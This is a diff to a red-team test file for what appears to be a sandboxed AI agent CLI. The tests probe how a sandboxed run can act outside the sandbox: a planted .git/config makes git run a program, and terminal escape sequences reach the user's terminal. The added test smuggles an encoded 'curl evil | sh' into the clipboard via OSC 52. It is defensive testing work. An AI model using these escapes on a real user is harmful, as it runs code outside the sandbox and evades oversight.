@@ -29,7 +29,7 @@ function outsideGit(prefix: string): FixtureHome & { pwned: string } {
 // tests, to see each one fail on the assertion that shows the escape.
 const escape = process.env.RED16_SHOW ? it : it.fails;
 
-describe("red team #16: what an earlier sandboxed run plants, a later run executes outside the sandbox", () => {
+describe("red team #16: what a sandboxed run writes still steers the host", () => {
   // loadPolicy runs `git cat-file blob HEAD:.codex-headless/policy.toml` in the repository above the
   // run's cwd BEFORE the gate asks whether that repository's .git is in a sandbox's reach. fsmonitor
   // and hooks are off, but a planted .git/config can still make git run a program: a partial clone
@@ -214,6 +214,18 @@ describe("red team #16: what an earlier sandboxed run plants, a later run execut
     const later = await runCli(["run", "--provider", "mock", "--scenario", "shell", "--scenario-option", `command=touch ${f.pwned}`, "go"], { ...f, cwd: proj });
     expect(existsSync(f.pwned)).toBe(false);
     expect(later.code).toBe(4);
+  });
+
+  // What a sandboxed command prints reaches the model, and through the final answer our stdout, byte
+  // for byte: terminal control sequences included. OSC 52 sets the user's clipboard in most terminals
+  // (xterm, iTerm2, kitty, WezTerm, Windows Terminal, tmux): a command the user pastes later runs
+  // outside any sandbox. (--json escapes them; the plain answer does not, on a terminal or not.)
+  escape("I. a sandboxed command's terminal escapes (OSC 52: set the clipboard) reach the user's terminal raw", async () => {
+    const f = outsideGit("red16-terminal");
+    const run = await runCli(attack('printf "\\033]52;c;Y3VybCBldmlsIHwgc2gK\\007done"', "exec", "read-only"), f);
+    expect(run.code).toBe(0);
+    expect(run.stdout).toMatch(/done/);
+    expect(run.stdout).not.toContain("\u001b]52;");
   });
 
   // loadPolicy reads the working copy of .codex-headless/policy.toml (in git, to compare it with the
